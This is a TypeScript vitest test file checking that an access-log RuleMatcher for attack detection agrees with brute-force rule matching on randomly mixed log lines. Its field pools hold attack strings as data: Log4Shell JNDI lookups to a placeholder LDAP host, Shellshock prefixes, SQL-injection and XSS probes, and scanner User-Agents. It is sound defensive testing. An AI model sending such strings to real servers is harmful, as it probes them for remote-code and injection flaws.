/**
 * RuleMatcher (prefilter, per-status candidates, literal gates marking their rules, the User-Agent
 * and referer caches) against brute force: every rule's own full match, with nothing skipped. Lines
 * are built by mixing the fields of every preset's samples and of known attacks at random, so the
 * same User-Agent or referer comes back (cache hits) with targets, statuses and methods that differ,
 * and one field's literal must never open a gate for another field or another event.
 */
import { describe, expect, it } from 'vitest';
import { PRESETS, PRESET_DEFINITIONS } from '../../../src/detect/presets.js';
import { compileRule } from '../../../src/detect/rule.js';
import { RuleMatcher } from '../../../src/detect/rule-matcher.js';
import { createLineParser } from '../../../src/parse/line-parser.js';
import { isSkip } from '../../../src/parse/access-event.js';
import { rng } from '../../support/random.js';


const SAMPLE = /^(\S+) \S+ \S+ \[([^\]]+)\] "(\S+) (\S+) (HTTP\/[0-9.]+)" (\d{3}) (\S+) "((?:[^"\\]|\\.)*)" "((?:[^"\\]|\\.)*)"/;

describe('RuleMatcher agrees with every rule matched in full', () => {
  const rules = Object.keys(PRESETS).map((n) => compileRule(n, PRESETS[n]!));
  const methods = new Set(['GET', 'POST', 'HEAD', 'PUT', 'PROPFIND', 'CONNECT', 'OPTIONS']);
  const targets = new Set(['/', '/index.html', '/static/app.js', '/%7Bjndi', '/a?b=${jndi:ldap://x/a}', '/x%00y', '/caf\u00e9']);
  const statuses = new Set([200, 301, 400, 401, 403, 404, 405, 444, 500, 503]);
  const referers = new Set(['-', 'https://example.com/', '${jndi:ldap://198.18.0.1/a}', '() { :; }; /bin/true', "' OR 1=1 --", '<script>alert(1)</script>', 'caf\u00e9']);
  const uas = new Set(['curl/8.0', 'Mozilla/5.0 (X11; Linux x86_64)', '${jndi:ldap://198.18.0.1/a}', '() { :; }; echo', 'sqlmap/1.7', 'Nikto', 'python-requests/2.31', 'masscan/1.3', '${${lower:j}ndi:x}', 'ZmEu', 'WPScan v3.8', '\u00c5gent']);
  for (const d of PRESET_DEFINITIONS) {
    for (const l of [...d.samples.match, ...d.samples.noMatch]) {
      const m = SAMPLE.exec(l);
      if (m === null) continue;
      methods.add(m[3]!);
      targets.add(m[4]!);
      statuses.add(Number(m[6]));
      referers.add(m[8]!);
      uas.add(m[9]!);
    }
  }
  const pick = <T,>(r: () => number, s: Set<T>): T => [...s][Math.floor(r() * s.size)]!;

  it('on random mixes of sample fields and attacks (caches hit with other fields changing)', () => {
    const parse = createLineParser('auto');
    const matcher = new RuleMatcher(rules);
    const r = rng(42);
    let checked = 0;
    let matched = 0;
    for (let i = 0; i < 12_000; i++) {
      const line = `198.18.0.${i % 200} - - [02/Dec/2026:10:00:00 +0000] "${pick(r, methods)} ${pick(r, targets)} HTTP/1.1" ${pick(r, statuses)} 10 "${pick(r, referers)}" "${pick(r, uas)}"`;
      const ev = parse(line);
      if (isSkip(ev)) continue;
      checked++;
      const n = matcher.match(ev);
      const got = Array.from(matcher.matched.subarray(0, n)).map((k) => rules[k]!.name);
      const want = rules.filter((x) => x.matches(ev)).map((x) => x.name);
      matched += want.length;
      expect(got, line).toEqual(want);
    }
    expect(checked).toBeGreaterThan(10_000);
    expect(matched).toBeGreaterThan(1000);
  });
});
